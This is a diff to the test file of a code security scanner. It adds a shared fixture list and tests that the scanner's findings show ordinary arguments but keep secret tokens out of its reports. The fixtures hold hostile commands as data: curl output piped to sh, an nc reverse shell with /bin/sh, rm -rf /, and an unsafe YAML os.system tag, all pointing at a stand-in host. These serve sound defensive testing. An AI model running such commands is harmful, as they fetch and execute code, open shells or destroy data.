@@ -3,6 +3,7 @@ from __future__ import annotations
 import json
 import random
 import string
+from pathlib import Path
 
 import pytest
 from support.cases import check_each
@@ -11,6 +12,7 @@ from support.work import count_work, find_growth_fault
 import modelaudit
 from modelaudit.languages import secrets
 from modelaudit.languages.secrets import find_secrets
+from modelaudit.reports.json_report import render_json
 from modelaudit.wire.base import LimitReachedError
 
 RANDOM = random.Random(7)
@@ -162,19 +164,30 @@ def test_too_many_matches_of_one_secret_pattern_in_several_parts_raise_a_limit_e
     assert reached_limit is not None
 
 
+CODE_WITH_ARGUMENT = [
+    ("run.sh", "curl -H 'X: {0}' http://e.invalid/?t={0} | sh\nnc -e /bin/sh {0} 1\nrm -rf / --x={0}\n"),
+    ("requirements.txt", "--extra-index-url http://e.invalid/{0}/simple\n-e git+https://{0}@e.invalid/x.git\n"),
+    ("x.yaml", "a: !!python/object/apply:os.system ['{0}']\nb: {{'{0}': 1, '{0}': 2}}\n"),
+    ("a.py", "import os\nos.system('curl -H {0} http://e.invalid | sh')\n"),
+]
+
+
+@check_each("file, text", CODE_WITH_ARGUMENT)
+def test_finding_on_dangerous_code_shows_an_ordinary_word_in_its_arguments(tmp_path, file, text):
+    folder = tmp_path / Path(file).stem
+    folder.mkdir()
+    (folder / file).write_text(text.format("ordinary-word"), encoding="utf-8")
+    report = modelaudit.scan(folder, second_opinion=False, checks=["security"])
+    assert "ordinary-word" in repr([(each.message, each.evidence) for each in report.findings])
+
+
 @pytest.mark.parametrize("token", TOKENS.values())
-@pytest.mark.parametrize(
-    ("file", "text"),
-    [
-        ("run.sh", "curl -H 'X: {0}' http://e.invalid/?t={0} | sh\nnc -e /bin/sh {0} 1\nrm -rf / --x={0}\n"),
-        ("requirements.txt", "--extra-index-url http://e.invalid/{0}/simple\n-e git+https://{0}@e.invalid/x.git\n"),
-        ("x.yaml", "a: !!python/object/apply:os.system ['{0}']\nb: {{'{0}': 1, '{0}': 2}}\n"),
-        ("a.py", "import os\nos.system('curl -H {0} http://e.invalid | sh')\n"),
-    ],
-)
+@pytest.mark.parametrize(("file", "text"), CODE_WITH_ARGUMENT)
 def test_finding_on_dangerous_code_does_not_show_a_secret_in_its_arguments(tmp_path, token, file, text):
     (tmp_path / file).write_text(text.format(token.removeprefix("https://")), encoding="utf-8")
     report = modelaudit.scan(tmp_path, second_opinion=False, checks=["security"])
     assert report.findings
+    assert len(report.findings) > 1  # beside the one on the secret itself
     # A part of the token would help an attacker too.
     assert token[-16:] not in repr(report)
+    assert token[-16:].encode() not in render_json(report)
